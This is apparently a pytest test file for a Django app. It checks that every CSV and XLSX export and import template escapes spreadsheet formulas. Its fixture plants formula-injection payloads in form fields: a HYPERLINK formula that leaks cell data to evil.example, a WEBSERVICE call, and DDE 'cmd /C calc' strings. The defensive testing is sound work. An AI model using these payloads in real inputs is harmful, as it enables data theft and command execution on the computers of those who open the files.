"""No cell of any CSV or XLSX the product writes can run as a spreadsheet formula (lib/cells.py): every dataset
of the exports page in both formats, the cases export, and every import template. Hostile text is planted where
the public (portal help form), officers (visit story) and staff (materials, stock, households) type."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from balekdusun.lib import cells
from balekdusun.lib.cells import TRIGGERS
from balekdusun.reports.exports import DATASETS
from balekdusun.reports.tests import factories as f

EVIL = {
    "address": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "dusun": "+SUM(1+1)",
    "head": "@cmd|' /C calc'!A0",
    "story": "=1+1",
    "reporter": "-2+3+cmd|' /C calc'!A0",
    "material": "=WEBSERVICE(\"http://evil.example\")",
    "reason": "\t=1+2",
}


def dangerous(value) -> bool:
    return isinstance(value, str) and value.startswith(TRIGGERS) and cells.cell(value) != value


def read(response, fmt) -> list[list]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    book = openpyxl.load_workbook(io.BytesIO(body))
    return [[c.value for c in r] for sheet in book.worksheets for r in sheet.iter_rows()]


@pytest.fixture
def hostile(client, offices, carol, bob):
    from balekdusun.materials import services as materials
    from balekdusun.materials.models import Material

    out = f.outreach(offices["sumsel"])
    home = f.household(address=EVIL["address"], dusun=EVIL["dusun"], head_name=EVIL["head"], consent_at=f.at(out.date))
    f.visit(home, bob, f.at(out.date), "met", outreach=out, data={"story": {"text": EVIL["story"], "consent_to_quote": True}})
    poster = Material.objects.create(kind="poster", title=EVIL["material"])
    materials.receive_stock(office=offices["sumsel"], material=poster, quantity=5, actor=carol, reason=EVIL["reason"])
    materials.create_batch(office=offices["sumsel"], size=2, actor=carol)
    # Typed by the public on the portal's help form.
    response = client.post("/portal/help/", {"kind": "broker", "description": "Calo menawarkan visa turis.",
                                             "village": "16.02.08.2017", "name": EVIL["reporter"],
                                             "phone": "0812-3456-7890", "consent": "on"})
    assert response.status_code == 302
    return home


def test_every_export_neutralises_formulas(login, dave, hostile):
    client = login(dave)  # the head of office: a report about a broker is a restricted case
    seen = set()
    files = [(reverse("reports:export", args=[kind, fmt]) + "?codes=1", fmt)
             for kind in DATASETS for fmt in ("csv", "xlsx")]
    files += [(reverse("cases:export", args=[fmt]) + "?status=all", fmt) for fmt in ("csv", "xlsx")]
    for url, fmt in files:
        response = client.get(url)
        assert response.status_code == 200, url
        rows = read(response, fmt)
        assert len(rows) > 1, url
        for row in rows:
            for value in row:
                assert not dangerous(value), (url, value)
                if isinstance(value, str) and value.startswith("'"):
                    seen.add(value[1:])
    # Each hostile text did reach an export, neutralised (and the numbers stayed numbers).
    # (The stock ledger names a material with its version: "<title> v1".)
    missing = [v for v in EVIL.values() if not any(text.startswith(v) for text in seen)]
    assert not missing, missing


def test_import_templates_are_neutral_too(login, carol):
    """Every template (test_templates.py checks that TEMPLATES covers every template route)."""
    from balekdusun.campaigns.tests.test_templates import TEMPLATES

    client = login(carol)
    for name, (kwargs, *_rest) in TEMPLATES.items():
        url_name = name.rsplit(":", 1)[0] if name.startswith("portal:") else name
        for fmt in ("csv", "xlsx"):
            response = client.get(reverse(url_name, kwargs={**kwargs, "fmt": fmt}))
            assert response.status_code == 200, name
            rows = read(response, fmt)
            assert len(rows) > 1 and not [v for row in rows for v in row if dangerous(v)], name


def test_the_cell_rule():
    for text in ("=1+1", "+A1", "-A1", "@SUM(A1)", "\t=1", "\r=1"):
        assert cells.cell(text) == "'" + text
    for value in ("-3.5", "+6281234567890", "-12", "Jl. Mawar", "", 3, -3.5, None):
        assert cells.cell(value) == value
    assert cells.row(["=x", 1]) == ["'=x", 1]
